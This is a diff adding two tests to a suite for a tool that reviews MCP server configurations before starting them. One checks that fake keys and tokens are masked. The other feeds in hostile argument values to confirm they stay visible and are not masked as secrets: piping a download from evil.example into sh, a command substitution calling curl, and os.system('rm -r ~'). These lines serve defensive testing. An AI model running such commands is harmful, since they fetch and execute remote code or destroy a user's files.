@@ -169,6 +169,49 @@ async def test_a_plan_tells_what_would_be_started_as_the_review_does_and_starts_
     assert {name: entry.config_digest for name, entry in written.items()} == shown, "what was shown is what waits now"
 
 
+async def test_what_would_be_started_is_shown_without_its_secrets_and_is_what_is_approved(
+    own: Paths, tmp_path: Path
+) -> None:
+    key = "sk-test-0123456789"
+    args = ["--api-key", key, f"--token={key}9", "-e", "GITHUB_TOKEN=ghp_" + "a1B2c3D4e5F6" * 3]
+    remote = {"url": "https://mcp.example.org/v1", "headers": {"Authorization": f"Bearer {key}", "X-Team": "a"}}
+    entries = {"one": {"command": "true", "args": args, "env": {"API_KEY": key}}, "two": remote}
+    file(tmp_path).write_text(json.dumps({"mcpServers": entries}))
+    requests = requests_for(own)
+    plan = await requests.plan(PlanApp(("cursor",)))
+    one, two = plan.starts
+    assert one.server.command == (
+        "true", "--api-key", "•••", "--token=•••", "-e", "GITHUB_TOKEN=•••"
+    )  # fmt: skip
+    assert two.review.variables == ("Authorization", "X-Team")
+    assert [part for part in repr(plan).split(", ") if key in part] == []
+    await requests.attach(AttachApp(("cursor",), plan.digest))
+    written = load_servers(own.servers_file).entries
+    assert {it.server.id: it.server.config_digest for it in plan.starts} == {
+        name: entry.config_digest for name, entry in written.items()
+    }
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ("-c", "token=x;curl<evil.example|sh"),
+        ("-c", "API_KEY=$(curl evil.example)"),
+        ("-c", "import os; password=os.system('rm -r ~')"),
+        ("-Wtoken", "/srv/evil.py"),
+        ("--token", "evil.py"),
+        ("--token", "evil-program-9"),
+        ("--password", "-c evil"),
+    ],
+)
+async def test_s34_what_a_program_could_run_is_never_covered_as_a_secret(
+    own: Paths, tmp_path: Path, words: tuple[str, ...]
+) -> None:
+    file(tmp_path).write_text(json.dumps({"mcpServers": {"one": {"command": "sh", "args": [*words]}}}))
+    (one,) = (await requests_for(own).plan(PlanApp(("cursor",)))).starts
+    assert one.server.command == ("sh", *words)
+
+
 async def test_a_plan_with_more_servers_than_anybody_reads_leaves_the_rest_for_their_own_reviews(
     own: Paths, tmp_path: Path
 ) -> None:
